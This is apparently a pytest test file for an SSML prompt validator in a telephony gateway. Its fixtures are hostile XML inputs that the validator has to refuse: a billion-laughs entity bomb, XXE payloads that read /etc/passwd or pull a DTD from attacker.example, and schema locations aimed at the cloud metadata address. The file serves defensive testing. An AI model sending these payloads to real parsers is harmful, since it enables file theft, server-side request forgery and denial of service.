"""SSML prompts: a single <speak> root, parsed with expat, DOCTYPE/entities refused."""

from __future__ import annotations

import pytest

from dtmf_gateway.domain.ssml import SSML_NAMESPACE, SsmlError, check_ssml

BILLION_LAUGHS = (
    '<?xml version="1.0"?>'
    '<!DOCTYPE lolz [<!ENTITY lol "lol">'
    '<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
    '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">'
    '<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>'
    "<speak>&lol4;</speak>"
)
XXE_FILE = '<!DOCTYPE speak [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><speak>&xxe;</speak>'
XXE_PARAMETER = (
    '<!DOCTYPE speak [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd">%remote;]>'
    "<speak>hi</speak>"
)
EXTERNAL_DTD = '<!DOCTYPE speak SYSTEM "http://attacker.example/speak.dtd"><speak>hi</speak>'
INTERNAL_DOCTYPE = "<!DOCTYPE speak><speak>hi</speak>"


@pytest.mark.parametrize(
    "text",
    [
        "<speak>Please enter your PIN</speak>",
        '<speak>Your code is <say-as interpret-as="digits">1234</say-as>.</speak>',
        '<speak>Hello <break time="1s"/> world</speak>',
        "<speak/>",
        f'<speak version="1.0" xmlns="{SSML_NAMESPACE}" xml:lang="en-GB">Hi</speak>',
        f'<s:speak xmlns:s="{SSML_NAMESPACE}">Hi</s:speak>',
        '<?xml version="1.0" encoding="UTF-8"?><speak>Hi</speak>',
        "<!-- a comment --><speak>Hi</speak>",
        "<speak>a &amp; b &lt; c &#65;</speak>",
        "  <speak>surrounding white space</speak>\n",
    ],
)
def test_valid_ssml_is_accepted(text: str) -> None:
    check_ssml(text)


@pytest.mark.parametrize(
    "text", [BILLION_LAUGHS, XXE_FILE, XXE_PARAMETER, EXTERNAL_DTD, INTERNAL_DOCTYPE]
)
def test_doctype_and_entities_are_refused_before_expansion(text: str) -> None:
    with pytest.raises(SsmlError, match="DOCTYPE and entity declarations are not allowed"):
        check_ssml(text)


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("<voice>x</voice>", "SSML must be a single <speak> element; the root element is <voice>"),
        ("<speak>a</speak><speak>b</speak>", "SSML must be a single <speak> element"),
        ("<speak>a</speak>trailing", "SSML must be a single <speak> element"),
        ("", "SSML must be a single <speak> element"),
        ("plain text", "use prompt type TTS for plain text"),
        ('<speak xmlns="urn:other">x</speak>', "must be in no namespace or in"),
        ("<speak></spea>", "SSML is not well-formed XML: line 1, column 10: mismatched tag"),
        ("<speak><p>hi</speak>", "mismatched tag"),
        ("<speak>&xxe;</speak>", "undefined entity"),
        ("<speak>a & b</speak>", "not well-formed"),
        ("<speak>\n<x:y>q</x:y></speak>", "line 2, column 1: unbound prefix"),
        ("<speak", "SSML is not well-formed XML"),
    ],
)
def test_bad_ssml_is_refused_with_a_clear_message(text: str, message: str) -> None:
    with pytest.raises(SsmlError) as caught:
        check_ssml(text)
    assert message in str(caught.value)
    assert isinstance(caught.value, ValueError)


# ------------------------------------------------------------------ break-13 findings

XSI = 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'


@pytest.mark.parametrize(
    "location",
    [
        f"{SSML_NAMESPACE} http://169.254.169.254/latest/meta-data/x.xsd",
        f"{SSML_NAMESPACE} https://attacker.example/synthesis.xsd",
        "http://attacker.example/ns http://www.w3.org/TR/speech-synthesis11/synthesis.xsd",
        f"{SSML_NAMESPACE}",
        "",
    ],
)
def test_a_schema_location_other_than_w3c_s_is_refused(location: str) -> None:
    """xsi:schemaLocation is an address a validating parser may fetch: only W3C's SSML schema
    may be named (it was accepted with any URL and forwarded to CM)."""
    text = f'<speak xmlns="{SSML_NAMESPACE}" {XSI} xsi:schemaLocation="{location}">hi</speak>'
    with pytest.raises(SsmlError, match="xsi:schemaLocation may only name W3C's SSML schema"):
        check_ssml(text)


@pytest.mark.parametrize(
    "schema",
    [
        "http://www.w3.org/TR/speech-synthesis11/synthesis.xsd",
        "http://www.w3.org/TR/speech-synthesis/synthesis.xsd",
    ],
)
def test_the_w3c_schema_location_stays_accepted(schema: str) -> None:
    check_ssml(
        f'<speak version="1.1" xmlns="{SSML_NAMESPACE}" {XSI} '
        f'xsi:schemaLocation="{SSML_NAMESPACE}  {schema}">hi</speak>'
    )


@pytest.mark.parametrize(
    "text",
    [
        "<speak>a&#x7f;b</speak>",
        "<speak>a&#x85;b</speak>",
        "<speak><![CDATA[a\x85b]]></speak>",
        '<speak><audio src="prompts/a&#x85;b.wav"/></speak>',
        '<speak><sub alias="a&#127;b">ab</sub></speak>',
    ],
)
def test_control_characters_written_as_character_references_are_refused(text: str) -> None:
    """A prompt refuses DEL and C1 characters; character references smuggled them to CM."""
    with pytest.raises(SsmlError, match="must not contain control characters"):
        check_ssml(text)
